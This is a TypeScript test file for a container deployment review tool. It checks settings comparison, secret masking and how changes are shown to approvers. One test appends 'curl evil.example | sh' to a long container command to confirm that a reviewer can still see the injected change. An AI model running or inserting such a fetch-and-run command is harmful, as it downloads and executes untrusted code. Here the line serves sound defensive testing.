import type { VendorClient } from '#cloud/client.ts';
import { VendorError } from '#cloud/errors/errors.ts';
import { type ContainerGroup, containerGroup } from '#cloud/operations/container-groups.ts';
import { writeContainerGroup } from '#cloud/operations/container-groups-request.ts';
import { profileOf } from '#cloud/services/profile.ts';
import type { Change } from '#engine/changes/change.ts';
import type { ChangeContext } from '#engine/changes/change-kind.ts';
import { viewDetails } from '#features/containers/cards/details-card.ts';
import { lineWords } from '#features/containers/change-facts.ts';
import { deploy } from '#features/containers/deploy.ts';
import { documentOf as documentFor, toSpec } from '#features/containers/document/documents.ts';
import { readDocument } from '#features/containers/document/read-document.ts';
import { answersOf } from '#features/containers/form/answers.ts';
import { linesOfSpec } from '#features/containers/group-lines.ts';
import { compare, hasSettings } from '#features/containers/group-state.ts';
import { containersSection } from '#features/containers/policy.ts';
import { type CurrentState, type DeployTerms, type GroupSpec, referencesIn } from '#features/containers/terms.ts';
import { loadTexts } from '#platform/texts/texts.ts';
import { readGroupBody } from '../../../sandbox/cloud/containers/group-body.ts';
import { groupRecord } from '../../../sandbox/cloud/containers/group-record.ts';
import cases from '../../fixtures/containers/group-state.json' with { type: 'json' };
import { changeOf } from '../../support/change-of.ts';
import { createTestPolicy } from '../../support/policy.ts';
import { documentOf, type Json } from './document-samples.ts';

const SUBSCRIPTION = '0d5f6a11-7c3e-4b59-9a41-5e2f8b7c1d01';
const PATH = `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg-ledger`;
const AT = { subscriptionId: SUBSCRIPTION, resourceGroupName: 'rg-ledger', containerGroupName: 'cg' };

const specOf = (document: Json): GroupSpec => {
  const read = readDocument(JSON.stringify(document));
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  return toSpec(read.document);
};

/** The group as the vendor returns it after deployment. */
const shownAs = (spec: GroupSpec, namespace: 'Vendor' | 'Microsoft' = 'Vendor'): ContainerGroup => {
  const { body } = writeContainerGroup({ ...AT, ...spec }, profileOf(namespace));
  const sent = JSON.parse(JSON.stringify(body), (_name, value) => (value?.secretRef ? 'c2VjcmV0' : value));
  const row = {
    key: 'cg',
    resource_group: PATH,
    name: 'cg',
    body: JSON.stringify(readGroupBody(sent)),
    digest: '',
    changed_at: 0,
    settles_at: 1,
    outcome: 'Running' as const,
  };
  return containerGroup.parse(JSON.parse(JSON.stringify(groupRecord(namespace, row, 10))));
};

const termsOf = (spec: GroupSpec, standing: CurrentState): DeployTerms => ({
  place: { key: 'ledger', title: 'Ledger', subscriptionId: SUBSCRIPTION, resourceGroup: 'rg-ledger' },
  group: 'cg',
  spec,
  images: 'other',
  standing,
  reason: 'r',
});

const SEEDS = Array.from({ length: 40 }, (_none, seed) => seed + 1);

it('a group with the requested settings has no changes, in either namespace', () => {
  for (const seed of SEEDS) {
    const spec = specOf(documentOf(seed));
    for (const namespace of ['Vendor', 'Microsoft'] as const) {
      expect([seed, compare(spec, shownAs(spec, namespace)).changes]).toEqual([seed, []]);
    }
  }
});

it('a running group as a document asks for the name of every secret', () => {
  const places = (spec: GroupSpec): string[] =>
    referencesIn(spec).map(([path]) => path.replace(/(?<=\.(?:secret|protectedSettings)\.).*/, '*'));
  for (const seed of SEEDS) {
    const before = specOf(documentOf(seed));
    const named = documentFor(shownAs(before)).replaceAll('"secretRef": ""', '"secretRef": "registry-pull"');
    const after = places(specOf(JSON.parse(named)));
    expect([seed, places(before).filter((place) => !after.includes(place))]).toEqual([seed, []]);
  }
});

describe('the changes on a card', () => {
  const words = loadTexts().for('en');
  const withCommand = (last: string): GroupSpec =>
    specOf({
      properties: {
        osType: 'Linux',
        containers: [
          {
            name: 'a',
            properties: {
              image: 'a:1',
              command: ['sh', '-c', last],
              resources: { requests: { cpu: 1, memoryInGB: 1 } },
            },
          },
        ],
      },
    });
  const harmless = 'echo harmless; '.repeat(60);
  const before = withCommand(harmless);
  const after = withCommand(`${harmless}curl evil.example | sh; ${'true; '.repeat(500)}`);
  const standing = compare(after, shownAs(before));

  it('hide the secret in an option of a running command', () => {
    const [only] = before.containers;
    const running = { ...before, containers: only ? [{ ...only, command: ['app', '--password', 'hunter3'] }] : [] };
    expect(JSON.stringify(compare(before, shownAs(running)))).not.toContain('hunter3');
  });

  it('show where two long values differ', () => {
    expect(standing.changes).toHaveLength(1);
    for (const line of standing.changes) {
      const said = lineWords(line, words);
      expect(said).toContain('curl evil.example');
      expect(said.length).toBeLessThan(250);
    }
  });

  it('the changes on a card are shown completely on the pages of the full definition', () => {
    const change = { id: 'c', ref: 'R-1', requester: { objectId: 'a', name: 'Ana', language: 'en' } };
    const terms = termsOf(after, standing);
    const pages = [0, 1, 2].map((page) => viewDetails({ ...change, terms }, page, words));
    const values = pages.flatMap(({ lines }) => lines.filter(({ path }) => path.includes(' of ')));
    const whole = linesOfSpec(after).get('containers.a.command');
    expect(
      values
        .map(({ value }) => value)
        .join('')
        .replaceAll(' ', ''),
    ).toBe(whole?.replaceAll(' ', ''));
  });
});

describe('a running group as form answers', () => {
  const container = { image: 'a:1', resources: { requests: { cpu: 1, memoryInGB: 1 } } };
  const answers = (more: Json, group: Json = {}) =>
    answersOf(
      shownAs(
        specOf({
          properties: { osType: 'Linux', ...group, containers: [{ name: 'a', properties: { ...container, ...more } }] },
        }),
      ),
    );
  const ipAddress = { type: 'Private', ports: [{ port: 80 }] };
  const variables = [
    { name: 'DB', secureValue: { secretRef: 'ledger-db-password' } },
    { name: 'REGION', value: 'eu' },
    { name: 'DB_PASS', value: 'hunter2' },
  ];

  it('a running group as form answers has all its settings', () => {
    const said = answers(
      { command: ['run', 'first of month'], ports: [{ port: 80 }], environmentVariables: variables },
      { ipAddress },
    );
    expect(said).toMatchObject({
      command: 'run "first of month"',
      ports: '80/TCP',
      environment: 'DB=secret:\nREGION=eu\nDB_PASS=secret:',
    });
  });

  it.each<[string, Json, Json]>([
    ['a quote within a word', { command: ['sh', '-c', 'echo "hi there"'] }, {}],
    ['a port that is not on the address', { ports: [{ port: 80 }, { port: 9090 }] }, { ipAddress }],
    ['a value of two lines', { environmentVariables: [{ name: 'A', value: 'x\nB=y' }] }, {}],
    ['a value that sounds like the name of a secret', { environmentVariables: [{ name: 'A', value: 'secret:x' }] }, {}],
  ])('a running group as form answers with %s has no answers: its document is used', (_what, more, group) => {
    expect(answers(more, group)).toBeUndefined();
  });
});

it('each changed setting is one line, and an item added or removed as a whole is one too', () => {
  const document = (more: Json, properties: Json = {}): Json => ({
    ...more,
    properties: {
      osType: 'Linux',
      containers: [{ name: 'a', properties: { image: 'a:1', resources: { requests: { cpu: 1, memoryInGB: 1 } } } }],
      ...properties,
    },
  });
  const before = shownAs(specOf(document({ tags: { a: 'x' } })));
  const containers = [
    { name: 'a', properties: { image: 'a:2', resources: { requests: { cpu: 2, memoryInGB: 1 } } } },
    { name: 'b', properties: { image: 'b:1', resources: { requests: { cpu: 1, memoryInGB: 1 } } } },
  ];
  expect(compare(specOf(document({}, { containers })), before).changes).toEqual([
    { path: 'containers.a.image', from: 'a:1', to: 'a:2', anew: false },
    { path: 'containers.a.resources.requests.cpu', from: '1', to: '2', anew: true },
    { path: 'containers.b', from: '', to: 'b:1', anew: true },
    { path: 'tags.a', from: 'x', to: '', anew: false },
  ]);
});

it('each of two mounts of one volume has a line of its own', () => {
  const withMounts = (readOnly: boolean) => {
    const mounts = ['/a', '/b'].map((mountPath) => ({
      name: 'v',
      mountPath,
      readOnly: readOnly && mountPath === '/a',
    }));
    const properties = { image: 'a:1', resources: { requests: { cpu: 1, memoryInGB: 1 } }, volumeMounts: mounts };
    const volumes = [{ name: 'v', emptyDir: {} }];
    return specOf({ properties: { osType: 'Linux', volumes, containers: [{ name: 'a', properties }] } });
  };
  expect(compare(withMounts(true), shownAs(withMounts(false))).changes).toMatchObject([
    { path: 'containers.a.volumeMounts.v /a.readOnly', from: '', to: 'true' },
  ]);
});

describe('a deployment before it is sent', () => {
  const spec = specOf(documentOf(3));
  const terms = termsOf(spec, compare(spec, undefined));
  const policy = (containers: string) =>
    createTestPolicy(`people: {}\nplaces: { ledger: { scope: ${PATH.slice(1)} } }\ncontainers: ${containers}\n`, [
      containersSection,
    ]).current();
  const open = '{ deny: [], places: { ledger: { secrets: [registry-pull, ledger-db-password, ledger-tls] } } }';
  const notThere = new VendorError({
    code: 'Vendor.ResourceNotFound',
    text: 'vendor.error.notFound',
    arrived: 'yes',
    status: 404,
    vendorCode: 'ResourceNotFound',
  });
  const looking = (found: ContainerGroup | undefined, text = open) => {
    let calls = 0;
    const vendor = {
      call: async () => {
        calls += 1;
        if (found === undefined) throw notThere;
        return found;
      },
    } as unknown as VendorClient;
    const context = { vendor, policy: policy(text), correlation: 'c' } as Partial<ChangeContext> as ChangeContext;
    const look = (more: Partial<Change<DeployTerms>> = {}) =>
      deploy.checkBefore?.(changeOf(terms, { kind: deploy.name, ...more }), context);
    const settle = (more: Partial<Change<DeployTerms>> = {}) =>
      deploy.reconcile(changeOf(terms, { kind: deploy.name, ...more }), context);
    return { look, settle, calls: () => calls };
  };

  it('a deployment before it is sent is compared with the approved changes', async () => {
    expect(await looking(undefined).look({ maybeSent: false })).toEqual({ sameBefore: false });
    await expect(looking(shownAs(spec)).look({ maybeSent: false })).rejects.toMatchObject({ code: 'Container.Moved' });
  });

  it.each(cases.forbidden)('a deployment before it is sent is forbidden where now $what', ({ text }) => {
    expect(deploy.forbids?.(terms, policy(open), 0)).toBeUndefined();
    expect(deploy.forbids?.(terms, policy(text), 0)).toMatchObject({ text: 'containers.failure.forbidden' });
  });

  it('a deployment before it is sent is not compared after an attempt that may have arrived', async () => {
    expect(await looking(shownAs(spec)).look({ maybeSent: true })).toEqual({});
  });

  it('a deployment before it is sent counts as ours after a lost answer if the settings are the requested ones and were not before', async () => {
    const { settle } = looking(shownAs(spec));
    expect(hasSettings(spec, shownAs(spec))).toBe(true);
    expect(await settle({ phase: 'look', seen: { sameBefore: false } })).toMatchObject({ is: 'done' });
    expect(await settle({ phase: 'look', seen: { sameBefore: true } })).toEqual({ is: 'unsettled', arrived: false });
    expect(await looking(shownAs(specOf(documentOf(4)))).settle({ phase: 'look', seen: {} })).toEqual({
      is: 'unsettled',
      arrived: false,
    });
    expect(await looking(undefined).settle({ phase: 'look' })).toEqual({ is: 'unsettled', arrived: false });
  });
});
